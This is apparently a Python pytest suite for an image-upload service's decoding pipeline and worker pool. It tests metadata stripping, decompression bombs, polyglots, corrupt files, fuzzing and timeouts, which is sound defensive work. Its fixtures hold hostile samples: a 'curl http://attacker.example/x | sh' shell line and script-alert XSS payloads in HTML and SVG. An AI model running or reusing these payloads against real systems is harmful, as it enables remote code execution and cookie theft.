"""process_image_file and DecodePool on real images: photographs, crafted bombs, polyglots,
truncated and corrupt files, animations, and random bytes."""

from __future__ import annotations

import asyncio
import dataclasses
import hashlib
import io
import pickle
import random
import struct
import tempfile
import time
import tracemalloc
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image, ImageChops, ImageCms, ImageFile, ImageStat, WebPImagePlugin

from common.errors import ApiError, ImageTooLarge
from services.image_store.imaging import png_chunks
from services.image_store.imaging.decode_pool import DecodePool, DecoderBusy, DecodeTimeout
from services.image_store.imaging.pipeline import (
    ProcessedImage,
    ValidationLimits,
    process_image_file,
)
from tests.image_store import images
from tests.image_store.images import encode, photo
from tests.plain_errors import assert_plain

LIMITS = ValidationLimits(
    allowed_types=frozenset({"image/png", "image/jpeg", "image/webp"}),
    max_side_px=10000,
    max_pixels=40_000_000,
    max_frames=1,
    reencode=True,
    jpeg_quality=90,
)
WITH_GIF = dataclasses.replace(LIMITS, allowed_types=LIMITS.allowed_types | {"image/gif"})
# Only Pillow's own decompression-bomb limit (89.5 MP warning, 179 MP error) is below these.
HUGE_LIMITS = dataclasses.replace(LIMITS, max_side_px=65535, max_pixels=500_000_000)
METADATA_KEYS = {"exif", "xmp", "XML:com.adobe.xmp", "icc_profile", "comment", "Comment", "dpi", "srgb"}


def process(
    tmp_path: Path, data: bytes, limits: ValidationLimits = LIMITS, name: str = "upload"
) -> tuple[ProcessedImage, bytes]:
    """Run the worker function in-process and check what it says about its output."""
    source, destination = tmp_path / name, tmp_path / "stored"
    source.write_bytes(data)
    result = process_image_file(source, destination, limits)
    stored = destination.read_bytes()
    assert result.sha256 == hashlib.sha256(stored).hexdigest()
    assert result.size_bytes == len(stored)
    assert {"sniff", "decode", "reencode", "hash"} <= set(result.timings)
    assert all(seconds >= 0 for seconds in result.timings.values())
    return result, stored


def reject(
    tmp_path: Path,
    data: bytes,
    limits: ValidationLimits = LIMITS,
    name: str = "upload",
) -> ApiError:
    source, destination = tmp_path / name, tmp_path / "stored"
    source.write_bytes(data)
    with pytest.raises(ApiError) as caught:
        process_image_file(source, destination, limits)
    assert not destination.exists(), "a rejected upload leaves no output file"
    return caught.value


def opened(data: bytes) -> Image.Image:
    with Image.open(io.BytesIO(data)) as image:
        image.load()
        copy = image.copy()
        copy.format = image.format
        return copy


@pytest.fixture
def pixel_spy(monkeypatch: pytest.MonkeyPatch) -> dict[str, int]:
    """Counts Image.open calls and pixel loads, to prove a bomb was refused from its header."""
    calls = {"open": 0, "load": 0}

    def counting(name: str, original: Callable[..., Any]) -> Callable[..., Any]:
        def wrapper(*args: Any, **kwargs: Any) -> Any:
            calls[name] += 1
            return original(*args, **kwargs)

        return wrapper

    monkeypatch.setattr(Image, "open", counting("open", Image.open))
    monkeypatch.setattr(ImageFile.ImageFile, "load", counting("load", ImageFile.ImageFile.load))
    webp = WebPImagePlugin.WebPImageFile
    monkeypatch.setattr(webp, "load", counting("load", webp.load))
    return calls


# ---- accepted images -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "mime", "fmt"),
    [
        ("astronaut.png", "image/png", "PNG"),
        ("chelsea.png", "image/png", "PNG"),
        ("horse.png", "image/png", "PNG"),
        ("rocket.jpg", "image/jpeg", "JPEG"),
        ("hubble_deep_field.jpg", "image/jpeg", "JPEG"),
        ("retina.jpg", "image/jpeg", "JPEG"),
    ],
)
def test_real_photos_are_reencoded_in_their_own_format_without_metadata(
    tmp_path: Path, name: str, mime: str, fmt: str
) -> None:
    original = opened(photo(name))
    assert METADATA_KEYS & set(original.info), "the sample carries metadata to strip"
    result, stored = process(tmp_path, photo(name))
    output = opened(stored)
    assert (result.mime_type, output.format) == (mime, fmt)
    assert (result.width, result.height) == output.size == original.size
    assert not METADATA_KEYS & set(output.info)
    assert not output.getexif()
    assert stored != photo(name)


@pytest.mark.parametrize("name", ["astronaut.png", "horse.png", "camera.png", "coins.png"])
def test_png_stays_lossless(tmp_path: Path, name: str) -> None:
    result, stored = process(tmp_path, photo(name))
    original, output = opened(photo(name)), opened(stored)
    assert result.mime_type == "image/png"
    assert output.mode == original.mode
    assert output.tobytes() == original.tobytes()


@pytest.mark.parametrize("mode", ["1", "L", "LA", "I;16", "RGBA", "P"])
def test_png_modes_survive_unchanged(tmp_path: Path, mode: str) -> None:
    with Image.open(io.BytesIO(photo("astronaut.png"))) as source:
        data = encode(source.convert("RGBA" if mode == "LA" else "RGB").convert(mode), "PNG")
    result, stored = process(tmp_path, data)
    original, output = opened(data), opened(stored)
    assert (result.mime_type, output.mode) == ("image/png", original.mode)
    assert output.tobytes() == original.tobytes()


def test_palette_png_keeps_palette_and_transparency(tmp_path: Path) -> None:
    source = Image.new("P", (40, 30), 1)
    source.putpalette([0, 0, 0, 255, 0, 0, 0, 255, 0] + [0] * (256 * 3 - 9))
    source.paste(2, (10, 10, 20, 20))
    data = encode(source, "PNG", transparency=1)
    _, stored = process(tmp_path, data)
    original, output = opened(data), opened(stored)
    assert (output.mode, output.info.get("transparency")) == ("P", 1)
    assert output.tobytes() == original.tobytes()
    assert output.convert("RGBA").tobytes() == original.convert("RGBA").tobytes()


def test_jpeg_quality_setting_is_used(tmp_path: Path) -> None:
    data = images.photo_as("coffee.png", "JPEG", quality=98)
    low, _ = process(tmp_path, data, dataclasses.replace(LIMITS, jpeg_quality=60))
    high, _ = process(tmp_path, data, dataclasses.replace(LIMITS, jpeg_quality=95))
    assert low.size_bytes < high.size_bytes


def test_wide_gamut_photo_is_converted_to_srgb(tmp_path: Path) -> None:
    """rocket.jpg carries an Adobe RGB profile: the stored pixels are sRGB, with no profile."""
    original = opened(photo("rocket.jpg"))
    assert b"Adobe RGB" in original.info["icc_profile"]
    _, stored = process(tmp_path, photo("rocket.jpg"))
    output = opened(stored)
    assert "icc_profile" not in output.info
    adobe = ImageCms.ImageCmsProfile(io.BytesIO(original.info["icc_profile"]))
    managed = ImageCms.profileToProfile(original, adobe, ImageCms.createProfile("sRGB"))
    assert managed is not None

    def distance(a: Image.Image, b: Image.Image) -> float:
        return sum(ImageStat.Stat(ImageChops.difference(a, b)).mean)

    assert distance(output, managed) < distance(output, original)


def test_cmyk_jpeg_is_stored_as_rgb(tmp_path: Path) -> None:
    data = encode(Image.new("CMYK", (40, 30), (0, 255, 255, 0)), "JPEG")  # pure red in print colours
    result, stored = process(tmp_path, data)
    output = opened(stored)
    assert (result.mime_type, output.mode, output.size) == ("image/jpeg", "RGB", (40, 30))
    red, green, blue = output.getpixel((20, 15))
    assert red > 200 > 50 > max(green, blue)


def test_webp_lossy_stays_webp(tmp_path: Path) -> None:
    data = images.photo_as("coffee.png", "WEBP", quality=80)
    result, stored = process(tmp_path, data)
    output = opened(stored)
    assert (result.mime_type, output.format, output.size) == ("image/webp", "WEBP", (600, 400))
    assert (result.width, result.height) == (600, 400)


def test_lossless_webp_stays_lossless(tmp_path: Path) -> None:
    data = images.photo_as("astronaut.png", "WEBP", lossless=True)
    result, stored = process(tmp_path, data)
    assert result.mime_type == "image/webp"
    assert opened(stored).tobytes() == opened(data).tobytes()


def test_single_frame_gif_becomes_png(tmp_path: Path) -> None:
    data = encode(Image.open(io.BytesIO(photo("chelsea.png"))).convert("P"), "GIF")
    result, stored = process(tmp_path, data, WITH_GIF)
    output = opened(stored)
    assert (result.mime_type, output.format) == ("image/png", "PNG")
    assert output.convert("RGB").tobytes() == opened(data).convert("RGB").tobytes()


def test_jpeg_with_extra_mpf_images_is_one_picture(tmp_path: Path) -> None:
    """Phones put depth/gain maps after the picture (MPO); they are not animation frames."""
    primary, extra = Image.new("RGB", (60, 40), (250, 0, 0)), Image.new("RGB", (30, 20), (0, 0, 250))
    data = encode(primary, "MPO", save_all=True, append_images=[extra])
    result, stored = process(tmp_path, data)
    output = opened(stored)
    assert (result.mime_type, output.size, getattr(output, "n_frames", 1)) == ("image/jpeg", (60, 40), 1)
    assert stored.count(b"\xff\xd8") == 1


def test_twelve_megapixel_jpeg_is_fast(tmp_path: Path) -> None:
    data = images.twelve_megapixel("JPEG")
    started = time.perf_counter()
    result, _ = process(tmp_path, data)
    assert time.perf_counter() - started < 2.0
    assert (result.mime_type, result.width, result.height) == ("image/jpeg", 4000, 3000)


# ---- metadata and orientation ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("orientation", "size", "red_at"),
    [
        (6, (200, 320), "top"),  # displayed rotated 90° clockwise: stored left is shown on top
        (8, (200, 320), "bottom"),
        (3, (320, 200), "right"),
    ],
)
def test_exif_orientation_is_applied_and_all_metadata_dropped(
    tmp_path: Path, orientation: int, size: tuple[int, int], red_at: str
) -> None:
    data = images.halves_with_orientation(orientation)
    for marker in (b"RetinaCam", b"Model-XYZ-123", b"secret note", b"Exif"):
        assert marker in data
    result, stored = process(tmp_path, data)
    assert (result.width, result.height) == size
    output = opened(stored)
    assert output.size == size
    width, height = size
    probes = {"top": (width // 2, 5), "bottom": (width // 2, height - 5), "right": (width - 5, height // 2)}
    red, _green, blue = output.getpixel(probes[red_at])
    assert red > 150 > blue
    for marker in (b"RetinaCam", b"Model-XYZ-123", b"secret note", b"Exif", b"GPS"):
        assert marker not in stored
    exif = output.getexif()
    assert not exif
    assert not exif.get_ifd(0x8825)
    assert not {"exif", "comment"} & set(output.info)


@pytest.mark.parametrize("fmt", ["PNG", "WEBP"])
def test_orientation_is_applied_to_png_and_webp_too(tmp_path: Path, fmt: str) -> None:
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "RetinaCam"
    data = encode(Image.new("RGB", (30, 10), (1, 2, 3)), fmt, exif=exif, lossless=True)
    assert b"RetinaCam" in data
    result, stored = process(tmp_path, data)
    assert (result.width, result.height) == opened(stored).size == (10, 30)
    assert b"RetinaCam" not in stored
    assert not opened(stored).getexif()


def test_without_reencoding_bytes_are_kept_but_still_validated(tmp_path: Path) -> None:
    keep = dataclasses.replace(LIMITS, reencode=False)
    data = images.halves_with_orientation(6)
    result, stored = process(tmp_path, data, keep)
    assert stored == data
    assert (result.mime_type, result.width, result.height) == ("image/jpeg", 200, 320)
    again = tmp_path / "again"
    again.mkdir()
    assert reject(again, photo("rocket.jpg")[:50_000], keep).code == "invalid_image"


# ---- polyglots and type confusion ------------------------------------------------------------


@pytest.mark.parametrize(("name", "mime"), [("astronaut.png", "image/png"), ("rocket.jpg", "image/jpeg")])
def test_polyglot_payload_is_dropped(tmp_path: Path, name: str, mime: str) -> None:
    data = images.with_payload(photo(name))
    result, stored = process(tmp_path, data)
    assert result.mime_type == mime
    for marker in (b"<script", b"PK\x03\x04", b"evil.sh", b"attacker"):
        assert marker not in stored
    opened(stored)


@pytest.mark.parametrize(
    ("content", "detected"),
    [
        (b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>", "text/html"),
        (b"#!/bin/sh\ncurl http://attacker.example/x | sh\n", "text/x-shellscript"),
        (
            b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
            b"<script>alert(1)</script></svg>",
            "image/svg+xml",
        ),
        (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "image/svg+xml"),
        (b"just some text", "text/plain"),
    ],
)
def test_non_images_named_like_images_are_415(tmp_path: Path, content: bytes, detected: str) -> None:
    error = reject(tmp_path, content, name="holiday.jpg")
    assert (error.status, error.code) == (415, "unsupported_media_type")
    assert detected in error.message
    assert "image/jpeg, image/png, image/webp" in error.message


def test_png_named_jpeg_is_stored_as_png(tmp_path: Path) -> None:
    result, stored = process(tmp_path, images.solid("PNG"), name="photo.jpg")
    assert result.mime_type == "image/png"
    assert stored.startswith(b"\x89PNG")


@pytest.mark.parametrize(
    ("data", "detected"),
    [
        (images.solid("GIF"), "image/gif"),
        (images.solid("BMP"), "image/bmp"),
        (images.solid("TIFF"), "image/tiff"),
        (photo("multipage.tif"), "image/tiff"),
        (images.solid("ICO"), "image/vnd.microsoft.icon"),
        (images.solid("PDF"), "application/pdf"),
    ],
    ids=["gif-not-allowed", "bmp", "tiff", "real-tiff", "ico", "pdf"],
)
def test_formats_outside_the_allow_list_are_415(tmp_path: Path, data: bytes, detected: str) -> None:
    error = reject(tmp_path, data)
    assert (error.status, error.code) == (415, "unsupported_media_type")
    assert f"the file is {detected}" in error.message


def test_empty_upload(tmp_path: Path) -> None:
    error = reject(tmp_path, b"")
    assert (error.status, error.code, error.message) == (400, "empty_upload", "the upload is empty")


# ---- decompression bombs ---------------------------------------------------------------------


def test_pixel_spy_sees_an_ordinary_decode(tmp_path: Path, pixel_spy: dict[str, int]) -> None:
    """The spy used below would notice a decode (so its zero there means something)."""
    process(tmp_path, images.solid("PNG"))
    assert pixel_spy["open"] >= 1
    assert pixel_spy["load"] >= 1


@pytest.mark.parametrize(
    ("data", "limits", "phrases"),
    [
        (images.png_bomb(20000, 20000), LIMITS, ["20000x20000", "10000 px"]),
        (images.png_bomb(1, 70000), LIMITS, ["1x70000", "10000 px"]),
        (images.png_bomb(9000, 9000), LIMITS, ["9000x9000", "81000000 pixels", "40000000"]),
        (images.jpeg_claiming(9000, 9000), LIMITS, ["9000x9000", "81000000 pixels"]),
        (images.webp_claiming_canvas(20000, 20000), LIMITS, ["20000x20000"]),
        (images.gif_growing_canvas(9000, 9000), WITH_GIF, ["9000x9000", "81000000 pixels"]),
        # A GIF's canvas grows inside Pillow's reader, whose own bomb check then speaks first:
        (images.gif_growing_canvas(20000, 20000), WITH_GIF, ["400000000 pixels"]),
        # Above Pillow's own limits (error at 179 MP, warning at 89.5 MP) with ours out of the way:
        (images.png_bomb(20000, 20000), HUGE_LIMITS, ["400000000 pixels"]),
        (images.png_bomb(10000, 10000), HUGE_LIMITS, ["100000000 pixels"]),
        (images.jpeg_claiming(30000, 30000), HUGE_LIMITS, ["900000000 pixels"]),
        (images.jpeg_claiming(12000, 12000), HUGE_LIMITS, ["144000000 pixels"]),
    ],
    ids=[
        "png-20000x20000",
        "png-side-1x70000",
        "png-area",
        "jpeg-area",
        "webp-canvas",
        "gif-area",
        "gif-pillow-error",
        "pillow-error-png",
        "pillow-warning-png",
        "pillow-error-jpeg",
        "pillow-warning-jpeg",
    ],
)
def test_bombs_are_refused_from_the_header(
    tmp_path: Path, pixel_spy: dict[str, int], data: bytes, limits: ValidationLimits, phrases: list[str]
) -> None:
    assert len(data) < 200_000, "a bomb is small on disk"
    started = time.perf_counter()
    error = reject(tmp_path, data, limits)
    assert time.perf_counter() - started < 1.0
    assert (error.status, error.code) == (422, "image_too_large")
    for phrase in phrases:
        assert phrase in error.message
    assert_plain(error.message)
    assert "Image size" not in error.message, "our sentence, not Pillow's text"
    assert pixel_spy["load"] == 0, "no pixel was decoded"


# ---- truncated and corrupt files -------------------------------------------------------------


def _garbage_after(data: bytes, offset: int) -> bytes:
    noise = random.Random(offset)
    return data[:offset] + bytes(noise.randrange(256) for _ in range(len(data) - offset))


def _flip_every(data: bytes, start: int, step: int) -> bytes:
    mutated = bytearray(data)
    for index in range(start, len(mutated), step):
        mutated[index] ^= 0xFF
    return bytes(mutated)


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (photo("rocket.jpg")[: len(photo("rocket.jpg")) // 2], "truncated"),
        (photo("astronaut.png")[: len(photo("astronaut.png")) // 2], "truncated"),
        (images.photo_as("coffee.png", "WEBP")[:20_000], ""),
        (_garbage_after(photo("rocket.jpg"), 2000), "corrupt"),
        (_garbage_after(photo("hubble_deep_field.jpg"), 30_000), ""),
        (_flip_every(photo("astronaut.png"), 5000, 997), "corrupt"),
        (photo("astronaut.png")[:33] + b"\x00" * 1000, ""),
    ],
    ids=[
        "jpeg-cut",
        "png-cut",
        "webp-cut",
        "jpeg-garbage",
        "jpeg-garbage-late",
        "png-idat-flips",
        "png-zeros",
    ],
)
def test_truncated_or_corrupt_files_are_invalid(tmp_path: Path, data: bytes, reason: str) -> None:
    error = reject(tmp_path, data)
    assert (error.status, error.code) == (422, "invalid_image")
    assert "is not a valid" in error.message
    assert reason in error.message
    assert str(tmp_path) not in error.message


@pytest.mark.parametrize("reencode", [True, False], ids=["reencoded", "kept-as-uploaded"])
def test_png_pixel_data_with_a_wrong_crc_is_invalid(tmp_path: Path, reencode: bool) -> None:
    """Pillow inflates IDAT without checking its CRC: the damaged chunk must be found anyway,
    whether the upload would be re-encoded or stored as it came."""
    limits = dataclasses.replace(LIMITS, reencode=reencode)
    data = images.with_bad_crc(photo("astronaut.png"), b"IDAT", index=-1)
    error = reject(tmp_path, data, limits)
    assert (error.status, error.code) == (422, "invalid_image")
    assert error.message == (
        "the file is not a valid PNG image: its data is corrupt (the CRC checksum of its IDAT chunk does not match)"
    )


def test_intact_pngs_with_many_chunks_still_pass(tmp_path: Path) -> None:
    """Every chunk of real photos (97 IDATs, text before and after the pixels) and of an APNG
    (fdAT frames) checks out; the upload is re-encoded as before."""
    for name in ("astronaut.png", "moon.png", "chelsea.png"):
        result, stored = process(tmp_path, photo(name), name=name)
        assert result.mime_type == "image/png"
        assert opened(stored).size == opened(photo(name)).size
    animated = dataclasses.replace(LIMITS, max_frames=10)
    result, _stored = process(tmp_path, images.animation("PNG"), animated, name="apng")
    assert result.mime_type == "image/png"


def test_png_chunk_check_streams_in_bounded_memory(tmp_path: Path) -> None:
    """One 24 MB IDAT chunk is checked a block at a time, not read whole."""
    body = random.Random(7).randbytes(24 * 1024 * 1024)
    source = tmp_path / "big.png"
    source.write_bytes(
        png_chunks.PNG_SIGNATURE
        + struct.pack(">I", len(body))
        + b"IDAT"
        + body
        + struct.pack(">I", zlib.crc32(b"IDAT" + body))
        + struct.pack(">I", 0)
        + b"IEND"
        + struct.pack(">I", zlib.crc32(b"IEND"))
    )
    del body
    tracemalloc.start()
    try:
        with source.open("rb") as stream:
            png_chunks.check_png_chunks(stream)
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 1024 * 1024, f"peak {peak} bytes"


# ---- animations ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "frames"),
    [
        (images.animation("GIF"), 5),
        (images.animation("WEBP"), 5),
        (images.animation("PNG"), 5),
        (photo("no_time_for_that_tiny.gif"), 24),
    ],
    ids=["gif", "webp", "apng", "real-gif"],
)
def test_animation_beyond_the_frame_limit(tmp_path: Path, data: bytes, frames: int) -> None:
    error = reject(tmp_path, data, WITH_GIF)
    assert (error.status, error.code) == (422, "too_many_frames")
    assert f"{frames} frames" in error.message
    assert "at most 1" in error.message


@pytest.mark.parametrize(
    ("data", "fmt"),
    [
        (images.animation("GIF"), "GIF"),
        (images.animation("WEBP"), "WEBP"),
        (images.animation("PNG"), "PNG"),
        (photo("no_time_for_that_tiny.gif"), "GIF"),
    ],
    ids=["gif", "webp", "apng", "real-gif"],
)
def test_allowed_animations_stay_animated(tmp_path: Path, data: bytes, fmt: str) -> None:
    result, stored = process(tmp_path, data, dataclasses.replace(WITH_GIF, max_frames=30))
    with Image.open(io.BytesIO(stored)) as output:
        assert output.format == fmt
        assert output.n_frames > 1
        assert (result.width, result.height) == output.size
        for index in range(output.n_frames):
            output.seek(index)
            output.load()


# ---- fuzzing ---------------------------------------------------------------------------------


REJECTIONS = {
    (400, "empty_upload"),
    (415, "unsupported_media_type"),
    (422, "invalid_image"),
    (422, "image_too_large"),
    (422, "too_many_frames"),
}


def _fuzz_once(data: bytes) -> None:
    """Either a valid stored image or one of the contract's refusals; anything else is a bug."""
    with tempfile.TemporaryDirectory() as scratch:
        source, destination = Path(scratch) / "in", Path(scratch) / "out"
        source.write_bytes(data)
        rejected: ApiError | None = None
        try:
            result = process_image_file(source, destination, dataclasses.replace(WITH_GIF, max_frames=4))
        except ApiError as error:
            rejected = error
        if rejected is not None:
            assert (rejected.status, rejected.code) in REJECTIONS
            assert not destination.exists()
        else:
            stored = destination.read_bytes()
            assert result.sha256 == hashlib.sha256(stored).hexdigest()
            with Image.open(io.BytesIO(stored)) as output:
                output.load()
                assert output.size == (result.width, result.height)


SEEDS = [
    images.solid("PNG", (24, 24)),
    photo("microaneurysms.png"),
    images.solid("JPEG"),
    images.animation("GIF", 3),
]
EDIT = st.tuples(st.integers(min_value=0, max_value=6000), st.binary(min_size=1, max_size=16))
FUZZ = settings(max_examples=40, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])


@FUZZ
@given(data=st.binary(max_size=2048))
def test_random_bytes_never_crash(data: bytes) -> None:
    _fuzz_once(data)


@FUZZ
@given(
    seed=st.sampled_from(SEEDS),
    edits=st.lists(EDIT, max_size=4),
    cut=st.one_of(st.none(), st.integers(min_value=1, max_value=6000)),
)
def test_mutated_images_never_crash(seed: bytes, edits: list[tuple[int, bytes]], cut: int | None) -> None:
    data = bytearray(seed)
    for position, junk in edits:
        position %= len(data)
        data[position : position + len(junk)] = junk
    _fuzz_once(bytes(data[:cut] if cut else data))


# ---- the decode pool -------------------------------------------------------------------------


@pytest.fixture
def slow_image(tmp_path: Path) -> Path:
    """A 12 MP photo-like PNG: about a second of work in a worker (decode plus re-encode)."""
    path = tmp_path / "slow.png"
    path.write_bytes(images.twelve_megapixel("PNG"))
    return path


@pytest.fixture
async def pool_factory() -> Any:
    pools: list[DecodePool] = []

    async def make(**kwargs: Any) -> DecodePool:
        pool = DecodePool(**kwargs)
        await pool.start()
        pools.append(pool)
        return pool

    yield make
    for pool in pools:
        await pool.close()


def write(tmp_path: Path, name: str, data: bytes) -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


def test_a_refusal_pickles_intact() -> None:
    error = ImageTooLarge("the image is 1x70000 px")
    copy = pickle.loads(pickle.dumps(error))  # noqa: S301 - our own object, the way worker results travel
    assert type(copy) is ImageTooLarge
    assert (copy.status, copy.code, copy.message) == (422, "image_too_large", error.message)
    assert str(copy) == error.message


async def test_pool_processes_a_photo_and_carries_rejections(tmp_path: Path, pool_factory: Any) -> None:
    pool = await pool_factory(workers=1, timeout_seconds=20, max_pending=4)
    result = await pool.process(write(tmp_path, "rocket", photo("rocket.jpg")), tmp_path / "out1", LIMITS)
    stored = (tmp_path / "out1").read_bytes()
    assert (result.mime_type, result.width, result.height) == ("image/jpeg", 640, 427)
    assert result.sha256 == hashlib.sha256(stored).hexdigest()

    expected = reject(tmp_path, images.png_bomb(1, 70000))
    with pytest.raises(ApiError) as caught:
        await pool.process(write(tmp_path, "bomb", images.png_bomb(1, 70000)), tmp_path / "out2", LIMITS)
    assert type(caught.value) is type(expected)
    assert (caught.value.status, caught.value.code, caught.value.message) == (
        expected.status,
        expected.code,
        expected.message,
    )
    assert not (tmp_path / "out2").exists()
    assert pool.in_flight == 0


async def test_pool_refuses_work_beyond_max_pending(
    tmp_path: Path,
    pool_factory: Any,
    slow_image: Path,
) -> None:
    pool = await pool_factory(workers=1, timeout_seconds=20, max_pending=2)
    small = write(tmp_path, "small", images.solid("PNG"))
    # Both slow: whichever reaches the only worker first, neither can be done 50 ms later (with a
    # small second image, it could win the worker and finish before the check).
    first = asyncio.create_task(pool.process(slow_image, tmp_path / "o1", LIMITS))
    second = asyncio.create_task(pool.process(slow_image, tmp_path / "o2", LIMITS))
    await asyncio.sleep(0.05)
    assert pool.in_flight == 2  # one running, one waiting for the only worker
    started = time.perf_counter()
    with pytest.raises(DecoderBusy):
        await pool.process(small, tmp_path / "o3", LIMITS)
    assert time.perf_counter() - started < 0.1, "refused at once, not after waiting"
    assert (await first).width == 4000
    assert (await second).width == 4000
    assert pool.in_flight == 0
    assert not (tmp_path / "o3").exists()


async def test_pool_timeout_kills_the_worker_and_recovers(
    tmp_path: Path,
    pool_factory: Any,
    slow_image: Path,
) -> None:
    pool = await pool_factory(workers=1, timeout_seconds=0.25, max_pending=4)
    started = time.perf_counter()
    with pytest.raises(DecodeTimeout):
        await pool.process(slow_image, tmp_path / "o1", LIMITS)
    assert time.perf_counter() - started < 5
    assert not (tmp_path / "o1").exists(), "the stuck worker was killed before it wrote anything"
    result = await pool.process(write(tmp_path, "small", images.solid("PNG")), tmp_path / "o2", LIMITS)
    assert result.mime_type == "image/png"
    assert pool.in_flight == 0


async def test_memory_cap_turns_an_oversized_decode_into_a_rejection(
    tmp_path: Path,
    pool_factory: Any,
) -> None:
    """RLIMIT_AS in the worker: 400 MP of pixels cannot be allocated under a 400 MiB cap, and
    the worker survives to report it (a MemoryError, not an OOM kill of the whole server)."""
    pool = await pool_factory(workers=1, timeout_seconds=20, max_pending=4, memory_limit_bytes=400 * 2**20)
    bomb = write(tmp_path, "bomb", images.png_bomb(20000, 20000))
    with pytest.raises(ApiError) as caught:
        await pool.process(bomb, tmp_path / "o1", HUGE_LIMITS)
    assert (caught.value.status, caught.value.code) == (422, "image_too_large")
    assert "memory" in caught.value.message
    after = await pool.process(write(tmp_path, "ok", photo("rocket.jpg")), tmp_path / "o2", LIMITS)
    assert after.width == 640


async def test_cancelled_decode_writes_nothing_afterwards(tmp_path: Path, pool_factory: Any) -> None:
    """The caller deletes its temp files when cancelled; a worker must not write after that."""
    pool = await pool_factory(workers=1, timeout_seconds=20, max_pending=4)
    source = write(tmp_path, "big.jpg", images.twelve_megapixel("JPEG"))
    task = asyncio.create_task(pool.process(source, tmp_path / "o1", LIMITS))
    await asyncio.sleep(0.02)
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    existed = (tmp_path / "o1").exists()
    (tmp_path / "o1").unlink(missing_ok=True)  # what the caller's cleanup does
    await asyncio.sleep(0.3)
    assert not (tmp_path / "o1").exists(), f"written after cancellation (existed before cleanup: {existed})"
    assert pool.in_flight == 0
    assert (await pool.process(source, tmp_path / "o2", LIMITS)).width == 4000
